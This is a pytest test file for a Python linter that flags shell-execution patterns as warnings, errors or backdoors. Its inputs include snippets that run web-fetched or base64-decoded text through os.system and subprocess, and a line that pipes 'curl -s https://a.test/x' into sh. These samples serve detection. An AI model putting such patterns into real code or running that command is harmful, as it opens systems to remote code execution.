"""What a shell is made to run: by whom the command is put together decides."""

import pytest

from python_problems import codes, places


@pytest.mark.parametrize(
    "code",
    [
        "import subprocess\ndef run(command): subprocess.run(command, shell=True)",
        "import subprocess\nsubprocess.run(command, shell=asked)",
        'import subprocess\nsubprocess.Popen(server["command"], shell=True)',
        "import os, sys\ncommand = sys.argv[1]\nos.system(command)",
        'import os\ncommand = options.command or config.get("command")\nos.system(command)',
        "import os\nfor command in recipe.commands: os.system(command)",
        'import os\nfor command in ["ls", "df"]: os.system(command)',
    ],
)
def test_a_shell_that_runs_what_it_is_handed_is_a_warning(code):
    assert codes(code) == ["SK053"]


@pytest.mark.parametrize(
    "code",
    [
        'import subprocess\ncommand = "convert " + path\nsubprocess.run(command, shell=True)',
        'import subprocess\ncommand = given\ncommand = f"rm {path}"\nsubprocess.run(command, shell=True)',
        "import subprocess\ncommand = put_together(path)\nsubprocess.run(command, shell=True)",
        "import subprocess\nsubprocess.run(put_together(path), shell=True)",
        'import os\nos.system("{} {}".format(a, b))',
        "import os\nfor command in text.split(): os.system(command)",
    ],
)
def test_a_shell_that_runs_what_is_put_together_is_an_error(code):
    assert codes(code) == ["SK051"]


@pytest.mark.parametrize(
    "code",
    [
        "import subprocess, requests\nsubprocess.run(requests.get(url, timeout=1).text, shell=True)",
        "import os, requests\nanswer = requests.get(url, timeout=1)\nos.system(answer.text)",
        "import os, base64\ncommand = base64.b64decode(text).decode()\nos.popen(command)",
        'import os, base64\nfor command in base64.b64decode(text).split(b";"): os.system(command)',
        'import os\nfor command in ["id", "curl -s https://a.test/x | sh"]: os.system(command)',
    ],
)
def test_a_shell_that_runs_what_was_fetched_or_decoded_is_a_backdoor(code):
    assert "SK052" in codes(code)


def test_a_call_over_several_lines_is_placed_where_the_line_begins():
    assert places("import subprocess\nsubprocess.run(\n    f'rm {path}',\n    shell=True,\n)") == [("SK051", 4, 5)]
